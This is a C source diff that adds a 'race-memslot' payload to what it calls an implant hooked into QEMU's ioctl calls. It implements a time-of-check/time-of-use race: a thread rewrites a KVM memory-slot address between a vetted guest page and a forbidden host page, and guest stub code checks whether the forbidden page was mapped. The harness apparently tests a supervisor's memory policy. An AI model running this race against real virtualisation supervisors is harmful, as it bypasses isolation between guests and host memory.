@@ -608,6 +608,9 @@ static void p_bpf(const char *name)
 /* --------------------------------------------------------- kvm-memslot */
 
 static int vm_fd = -1;
+static struct kvm_run *run_of(int fd);
+static void p_race_memslot(const char *name, const char *arg, int fd, struct kvm_run *run);
+static int trigger_fd;
 
 /*
  * A page of the implant's .bss: anonymous memory, as QEMU's own .bss
@@ -679,7 +682,8 @@ static void p_kvm_memslot(const char *name, const char *arg)
 
 #define RACE_BUF 256
 
-static atomic_int race_pending; /* 1 open, 2 connect, 3 unlink, 4 sendmsg, 5 sendmmsg */
+static atomic_int race_pending; /* 1 open, 2 connect, 3 unlink, 4 sendmsg, 5 sendmmsg, 6 memslot */
+static void run_race_memslot_main(void);
 static atomic_long race_n;
 static char race_buf[RACE_BUF];
 static char race_alt[2][RACE_BUF];
@@ -927,6 +931,10 @@ static void run_race_sendmmsg(void)
 
 static void run_race(int mode)
 {
+	if (mode == 6) {
+		run_race_memslot_main();
+		return;
+	}
 	if (mode == 4) {
 		run_race_sendmsg();
 		return;
@@ -2202,6 +2210,8 @@ static void run_payload(const char *name, const char *arg, int diskfd)
 		p_host_mount(name, arg);
 	else if (!strcmp(name, "bpf"))
 		p_bpf(name);
+	else if (!strcmp(name, "race-memslot") || !strcmp(name, "race-memslot-main"))
+		p_race_memslot(name, arg, trigger_fd, run_of(trigger_fd));
 	else if (!strncmp(name, "race-", 5))
 		p_race(name, arg);
 	else if (!strcmp(name, "uring-qemu") || !strcmp(name, "uring-own"))
@@ -2360,6 +2370,248 @@ static struct kvm_run *run_of(int fd)
 	return NULL;
 }
 
+/* --------------------------------------------------------- race-memslot */
+
+/*
+ * race-memslot and race-memslot-main: the TOCTOU attack on a supervisor
+ * that reads the struct kvm_userspace_memory_region of a
+ * KVM_SET_USER_MEMORY_REGION, checks what backs its host range and lets
+ * the call continue: the kernel copies the struct again. A swapper thread
+ * keeps rewriting userspace_addr between a page of guest RAM (allowed: a
+ * RAM block QEMU made before the guest ran, the page at GPA
+ * MEMSLOT_ALLOWED_GPA, holding 'A') and a page of QEMU's own memory that
+ * is not guest RAM (forbidden: anonymous memory mapped at the address
+ * KFV_RACE_FORBIDDEN names, in hex, holding 'F'), while N calls add a slot
+ * of one page at GPA MEMSLOT_GPA (outside the guest's 1 MiB of RAM) in a
+ * slot number QEMU does not use, each followed by its deletion.
+ *
+ * What the slot maps is seen from the guest side: after each call that
+ * succeeded, the vCPU thread that received the trigger runs a stub in the
+ * guest (at GPA MEMSLOT_STUB) that reads the byte at MEMSLOT_GPA and
+ * writes it to port MEMSLOT_PORT: 'F' is the forbidden page reached by
+ * the guest, the race won. Afterwards the vCPU's registers are put back
+ * and it runs on from where the trigger left it.
+ *
+ * race-memslot makes the calls from the vCPU thread itself (a vCPU thread
+ * maps memory when the guest programs a BAR); race-memslot-main hands
+ * them to QEMU's main thread (memory hot-plug, a manager's commands),
+ * whose guest reads the vCPU thread makes on request. The report is
+ * p_race's, with forbidden counting the slots the guest saw over the
+ * forbidden page, and other=K the successful calls whose slot read
+ * neither byte.
+ */
+#define MEMSLOT_GPA 0x100000ull
+#define MEMSLOT_STUB 0x8000ull
+#define MEMSLOT_ALLOWED_GPA 0x9000ull
+#define MEMSLOT_PORT 0x5f1
+
+static uint64_t guest_ram_hva; /* QEMU's slot at GPA 0, from its own ioctl */
+static struct kvm_userspace_memory_region memslot_reg;
+static uint64_t memslot_alt[2];
+static int memslot_vcpu = -1;
+static struct kvm_run *memslot_run;
+static atomic_int memslot_req, memslot_res, memslot_done;
+
+static void *memslot_swapper(void *arg)
+{
+	(void)arg;
+	volatile __u64 *p = &memslot_reg.userspace_addr;
+	while (!atomic_load_explicit(&race_stop, memory_order_relaxed)) {
+		*p = memslot_alt[1];
+		*p = memslot_alt[0];
+	}
+	return NULL;
+}
+
+/* memslot_setup checks what the race needs and fills the two pages. */
+static int memslot_setup(const char *name)
+{
+	if (vm_fd < 0 || !guest_ram_hva) {
+		report(name, 0, "no KVM VM fd or guest RAM slot seen (needs KVM and the port trigger)");
+		return -1;
+	}
+	uint64_t forbidden = strtoull(getenv("KFV_RACE_FORBIDDEN"), NULL, 16);
+	void *f = mmap((void *)(uintptr_t)forbidden, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
+	if (f == MAP_FAILED || (uint64_t)(uintptr_t)f != forbidden) {
+		report(name, 0, "map the forbidden page at 0x%llx: %s", (unsigned long long)forbidden, strerror(errno));
+		return -1;
+	}
+	memset(f, 'F', 4096);
+	memset((char *)(uintptr_t)(guest_ram_hva + MEMSLOT_ALLOWED_GPA), 'A', 4096);
+	static const unsigned char stub[] = {
+		0xb8, 0xff, 0xff,                            /* mov ax, 0xffff */
+		0x8e, 0xd8,                                  /* mov ds, ax */
+		0xa0, 0x10, 0x00,                            /* mov al, [0x0010]: GPA 0x100000 */
+		0xba, MEMSLOT_PORT & 0xff, MEMSLOT_PORT >> 8, /* mov dx, MEMSLOT_PORT */
+		0xee,                                        /* out dx, al */
+		0xf4,                                        /* hlt */
+	};
+	memcpy((char *)(uintptr_t)(guest_ram_hva + MEMSLOT_STUB), stub, sizeof stub);
+	memslot_alt[0] = guest_ram_hva + MEMSLOT_ALLOWED_GPA;
+	memslot_alt[1] = forbidden;
+	int (*rioctl)(int, unsigned long, ...) = real("ioctl");
+	int nr = rioctl(vm_fd, KVM_CHECK_EXTENSION, KVM_CAP_NR_MEMSLOTS);
+	if (nr <= 0)
+		nr = 32;
+	memslot_reg = (struct kvm_userspace_memory_region){
+		.slot = (uint32_t)(nr - 2), /* kvm-memslot's is nr - 1 */
+		.guest_phys_addr = MEMSLOT_GPA,
+		.memory_size = 4096,
+		.userspace_addr = memslot_alt[0],
+	};
+	return 0;
+}
+
+static struct kvm_regs memslot_saved_regs;
+static struct kvm_sregs memslot_saved_sregs;
+
+/* memslot_enter points the trigger's vCPU at the stub, in real mode at
+ * segment 0; memslot_leave puts it back and lets it run on. */
+static int memslot_enter(int fd)
+{
+	int (*rioctl)(int, unsigned long, ...) = real("ioctl");
+	if (rioctl(fd, KVM_GET_REGS, &memslot_saved_regs) || rioctl(fd, KVM_GET_SREGS, &memslot_saved_sregs))
+		return -1;
+	struct kvm_sregs s = memslot_saved_sregs;
+	s.cs.selector = 0;
+	s.cs.base = 0;
+	return rioctl(fd, KVM_SET_SREGS, &s);
+}
+
+static void memslot_leave(int fd)
+{
+	int (*rioctl)(int, unsigned long, ...) = real("ioctl");
+	rioctl(fd, KVM_SET_SREGS, &memslot_saved_sregs);
+	rioctl(fd, KVM_SET_REGS, &memslot_saved_regs);
+	/* The vCPU makes its last exit again (the trigger's out, or what
+	 * follows it) for QEMU to handle as its own. */
+	rioctl(fd, KVM_RUN, 0);
+}
+
+/* memslot_peek runs the stub: the byte the guest reads at MEMSLOT_GPA,
+ * 0x100 + exit reason when it does not get there. */
+static int memslot_peek(int fd, struct kvm_run *run)
+{
+	int (*rioctl)(int, unsigned long, ...) = real("ioctl");
+	struct kvm_regs r = memslot_saved_regs;
+	r.rip = MEMSLOT_STUB;
+	r.rflags = 2;
+	if (rioctl(fd, KVM_SET_REGS, &r))
+		return 0x200;
+	for (int i = 0; i < 16; i++) {
+		if (rioctl(fd, KVM_RUN, 0) && errno != EINTR && errno != EAGAIN)
+			return 0x300;
+		if (run->exit_reason == KVM_EXIT_IO && run->io.port == MEMSLOT_PORT && run->io.direction == KVM_EXIT_IO_OUT)
+			return ((unsigned char *)run)[run->io.data_offset];
+		if (run->exit_reason == KVM_EXIT_MMIO && !run->mmio.is_write) {
+			memset(run->mmio.data, 0xff, sizeof run->mmio.data); /* nothing there */
+			continue;
+		}
+		if (run->exit_reason == KVM_EXIT_INTR)
+			continue;
+		return 0x100 + (int)run->exit_reason;
+	}
+	return 0x400;
+}
+
+/* memslot_calls makes the n calls and counts; peek reads the slot. */
+static void memslot_calls(const char *name, long n, int (*peek)(void))
+{
+	int (*rioctl)(int, unsigned long, ...) = real("ioctl");
+	long nallowed = 0, nforbidden = 0, ndenied = 0, nother = 0;
+	int lasterr = 0, lastother = 0;
+	struct kvm_userspace_memory_region del = memslot_reg;
+	del.memory_size = 0;
+	del.userspace_addr = 0;
+	atomic_store(&race_stop, 0);
+	pthread_t th;
+	int e = pthread_create(&th, NULL, memslot_swapper, NULL);
+	if (e) {
+		report(name, 0, "pthread_create: %s", strerror(e));
+		return;
+	}
+	for (long i = 0; i < n; i++) {
+		if (rioctl(vm_fd, KVM_SET_USER_MEMORY_REGION, &memslot_reg) != 0) {
+			ndenied++;
+			lasterr = errno;
+			continue;
+		}
+		int b = peek();
+		if (b == 'F')
+			nforbidden++;
+		else if (b == 'A')
+			nallowed++;
+		else
+			nother++, lastother = b;
+		if (rioctl(vm_fd, KVM_SET_USER_MEMORY_REGION, &del) != 0) {
+			atomic_store(&race_stop, 1);
+			pthread_join(th, NULL);
+			report(name, 0, "delete slot %u: %s", del.slot, strerror(errno));
+			return;
+		}
+	}
+	atomic_store(&race_stop, 1);
+	pthread_join(th, NULL);
+	char comm[16];
+	thread_name(comm);
+	report(name, nforbidden > 0, "tid=%d thread=%s attempts=%ld allowed=%ld forbidden=%ld denied=%ld errno=%s other=%ld lastother=%d",
+	       (int)gettid(), comm, n, nallowed, nforbidden, ndenied, lasterr ? strerrorname_np(lasterr) : "0", nother, lastother);
+}
+
+static int memslot_peek_self(void) { return memslot_peek(memslot_vcpu, memslot_run); }
+
+/* The main thread's peek: the vCPU thread makes it. */
+static int memslot_peek_remote(void)
+{
+	atomic_store(&memslot_req, 1);
+	while (atomic_load(&memslot_req))
+		sched_yield(); /* two cores: the swapper spins too */
+	return atomic_load(&memslot_res);
+}
+
+static void run_race_memslot_main(void)
+{
+	memslot_calls("race-memslot-main", atomic_load(&race_n), memslot_peek_remote);
+	atomic_store(&memslot_done, 1);
+}
+
+static void p_race_memslot(const char *name, const char *arg, int fd, struct kvm_run *run)
+{
+	char *end;
+	long n = strtol(arg, &end, 10);
+	if (!race_armed || *end || n <= 0 || !run) {
+		report(name, 0, "want KFV_RACE_ALLOWED, KFV_RACE_FORBIDDEN, a positive count and the vCPU trigger, got %s", arg);
+		return;
+	}
+	if (memslot_setup(name) || memslot_enter(fd)) {
+		if (errno)
+			report(name, 0, "set up: %s", strerror(errno));
+		return;
+	}
+	memslot_vcpu = fd;
+	memslot_run = run;
+	if (!strcmp(name, "race-memslot")) {
+		memslot_calls(name, n, memslot_peek_self);
+	} else {
+		atomic_store(&memslot_done, 0);
+		atomic_store(&race_n, n);
+		atomic_store(&race_pending, 6);
+		say("kfv-implant: %s handed to the main thread", name);
+		while (!atomic_load(&memslot_done)) {
+			if (atomic_load(&memslot_req)) {
+				atomic_store(&memslot_res, memslot_peek(fd, run));
+				atomic_store(&memslot_req, 0);
+			} else {
+				sched_yield();
+			}
+		}
+	}
+	memslot_leave(fd);
+}
+
+/* The vCPU fd whose exit carried the trigger's last byte. */
+static int trigger_fd = -1;
+
 static void port_trigger(int fd)
 {
 	struct kvm_run *run = run_of(fd);
@@ -2375,6 +2627,7 @@ static void port_trigger(int fd)
 		char payload[CMD_MAX], arg[CMD_MAX];
 		if (data[i] == 0 && parse_command(port_cmd, port_len, payload, arg, sizeof payload)) {
 			port_len = 0;
+			trigger_fd = fd;
 			run_payload(payload, arg, -1);
 		}
 	}
@@ -2394,6 +2647,11 @@ int ioctl(int fd, unsigned long req, ...)
 		return r;
 	if (req == KVM_CREATE_VM && r >= 0)
 		vm_fd = r;
+	else if (req == KVM_SET_USER_MEMORY_REGION && r == 0) {
+		const struct kvm_userspace_memory_region *m = arg;
+		if (m->guest_phys_addr == 0 && m->memory_size >= 0x10000 && !guest_ram_hva)
+			guest_ram_hva = m->userspace_addr; /* low RAM, for race-memslot */
+	}
 	else if (req == KVM_RUN && r == 0)
 		port_trigger(fd);
 	return r;
